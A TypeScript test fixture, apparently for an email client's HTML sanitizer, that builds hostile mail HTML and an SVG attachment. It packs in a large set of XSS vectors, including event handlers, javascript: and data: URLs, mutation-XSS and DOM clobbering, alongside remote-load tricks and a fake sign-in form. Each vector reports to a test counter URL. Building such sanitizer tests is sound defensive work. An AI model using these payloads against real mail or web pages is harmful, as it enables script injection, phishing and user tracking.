/**
 * Everything by which a mail's HTML has been known to load, send, run or pretend something. Whatever it asks for is asked
 * of `counterUrl`; whatever runs calls `pwned()`, opens a dialog or asks the counter as well.
 */
export function hostileHtml(counterUrl: string): string {
  const at = (name: string) => `${counterUrl}/${name}`;
  const run = (name: string) =>
    `window.pwned=1;top.pwned=1;parent.document.title='pwned';alert('${name}');fetch('${at(`ran-${name}`)}')`;
  return `<!doctype html><html manifest="${at("manifest")}"><head>
<base href="${at("base/")}" target="_top">
<meta http-equiv="refresh" content="0;url=${at("refresh")}">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'; report-uri ${at("report")}">
<meta http-equiv="Set-Cookie" content="pwned=1">
<title>pwned</title>
<link rel="stylesheet" href="${at("link-stylesheet")}"><link rel="prefetch" href="${at("link-prefetch")}">
<link rel="preload" as="image" href="${at("link-preload")}"><link rel="modulepreload" href="${at("link-module")}">
<link rel="dns-prefetch" href="${counterUrl}"><link rel="preconnect" href="${counterUrl}"><link rel="icon" href="${at("link-icon")}">
<link rel="prerender" href="${at("link-prerender")}"><link rel="manifest" href="${at("link-manifest")}">
<style>@import url(${at("css-import")}); @import "${at("css-import-text")}" layer(x);
@font-face { font-family: trap; src: url(${at("css-font")}) }
body { background: url(${at("css-body")}); font-family: trap; cursor: url(${at("css-cursor")}), auto }
p::after { content: url(${at("css-content")}) } ul { list-style: url(${at("css-list")}) }
p { background: image-set(url(${at("css-image-set")}) 1x); -webkit-mask: url(${at("css-mask")}#m); filter: url(${at("css-filter")}#f) }
p[class^="a"] { border-image-source: url(${at("css-selector")}) } @namespace url(${at("css-namespace")});</style>
<script src="${at("script-source")}"></script><script>${run("script")}</script><script type="module">${run("module")}</script>
<script type="speculationrules">{"prefetch":[{"urls":["${at("speculation")}"]}]}</script>
</head><body onload="${run("onload")}" background="${at("body-background")}">
<p id="greeting" class="a">Good morning, dear customer</p><ul><li>One</li></ul>
<script>${run("script-in-body")}</script>
<img src="x" onerror="${run("onerror")}"><img src="${at("image")}" alt="" onload="${run("image-onload")}">
<img src="${at("image-source")}" srcset="${at("image-srcset")} 1x, ${at("image-srcset-2x")} 2x" sizes="100vw">
<img lowsrc="${at("image-lowsrc")}" dynsrc="${at("image-dynsrc")}" longdesc="${at("image-longdesc")}" usemap="#map">
<map name="map"><area shape="default" href="javascript:${run("area")}"></map>
<picture><source srcset="${at("picture-source")}"><img src="${at("picture-image")}"></picture>
<div style="background-image: url(${at("style-url")}); background: url('${at("style-url-quoted")}')">x</div>
<div style="background:\\75\\72\\6c(${at("style-escaped")})">x</div><table background="${at("table-background")}"><tr><td background="${at("td-background")}">x</td></tr></table>
<a id="js" href="javascript:${run("href")}">javascript</a><a href="JaVa&#10;ScRiPt:${run("href-mixed")}">mixed</a>
<a href="data:text/html,<script>${run("data")}</script>">data</a><a href="vbscript:pwned()">vbscript</a><a href="blob:${counterUrl}/x">blob</a>
<a id="good" href="${at("followed")}" ping="${at("ping")}" target="_self" onclick="${run("onclick")}">A link</a>
<form id="form" action="${at("form")}" method="post"><input name="password" type="password" autofocus onfocus="${run("onfocus")}">
<input type="image" src="${at("input-image")}"><button formaction="${at("formaction")}">Sign in again</button></form>
<button form="form" formaction="${at("formaction-outside")}">Send</button><isindex action="javascript:pwned()" type="image" src="${at("isindex")}">
<iframe src="${at("iframe")}"></iframe><iframe srcdoc="<script>${run("srcdoc")}</script><img src=${at("srcdoc-image")}>"></iframe>
<iframe src="javascript:${run("iframe-javascript")}"></iframe><frameset><frame src="${at("frame")}"></frameset>
<object data="${at("object")}"></object><object data="data:text/html,<script>${run("object-data")}</script>"></object>
<embed src="${at("embed")}"><applet code="x" archive="${at("applet")}"></applet><portal src="${at("portal")}"></portal><fencedframe></fencedframe>
<video src="${at("video")}" poster="${at("video-poster")}" autoplay onloadstart="${run("video")}"></video>
<video autoplay><source src="${at("video-source")}" onerror="${run("video-source")}"><track default src="${at("track")}"></video>
<audio src="${at("audio")}" autoplay></audio><bgsound src="${at("bgsound")}"><xml src="${at("xml")}" id="x"></xml>
<svg onload="${run("svg")}"><image href="${at("svg-image")}" xlink:href="${at("svg-xlink")}"/><use href="${at("svg-use")}#x"/>
<script>${run("svg-script")}</script><a href="javascript:${run("svg-a")}"><text y="20">svg</text></a><animate onbegin="${run("animate")}" attributeName="x" dur="1s"/>
<set attributeName="href" to="javascript:pwned()"/><foreignObject><img src="${at("svg-foreign")}"></foreignObject><style>@import "${at("svg-style")}";</style>
<feImage href="${at("svg-feimage")}"/></svg><math href="javascript:${run("math")}"><maction actiontype="statusline#${at("math")}">x</maction></math>
<dialog open onclose="${run("dialog")}">Your session has ended. <form method="dialog"><button autofocus>Sign in</button></form></dialog>
<details open ontoggle="${run("toggle")}"><summary>x</summary></details><marquee onstart="${run("marquee")}">x</marquee>
<div popover id="pop" ontoggle="${run("popover")}">x</div><button popovertarget="pop">x</button>
<div contenteditable autofocus onfocus="${run("editable")}" onpointerenter="${run("pointer")}">x</div>
<template shadowrootmode="open"><img src="${at("shadow")}" onerror="${run("shadow")}"><slot></slot></template>
<div><template shadowrootmode="open"><style>@import "${at("shadow-style")}";</style><script>${run("shadow-script")}</script></template></div>
<p><img src="cid:drawing" id="drawing" alt="A drawing"><img src="cid:photo" alt="A photo"></p>
<noscript><p title="</noscript><img src=${at("mutation-noscript")} onerror=${run("mutation-noscript").replaceAll(" ", "")}>"></noscript>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run("mutation-math")}&gt;">
<svg></p><style><a id="</style><img src=1 onerror=${run("mutation-svg")}>"></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run("mutation-form")}>
<img name="body" id="documentElement"><form id="getElementById"><input name="attributes"><input name="nodeName"></form><a id="defaultView" href="${at("clobbered")}">x</a>
</body></html>`;
}

/** A drawing as an attachment, with a script and more in it. */
export function hostileDrawing(counterUrl: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20" onload="fetch('${counterUrl}/ran-drawing')">
<script>fetch('${counterUrl}/ran-drawing-script')</script><image href="${counterUrl}/drawing-image" width="9" height="9"/>
<style>@import "${counterUrl}/drawing-style";</style><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${counterUrl}/drawing-foreign"/></foreignObject>
<rect width="20" height="20" fill="green"/></svg>`;
}
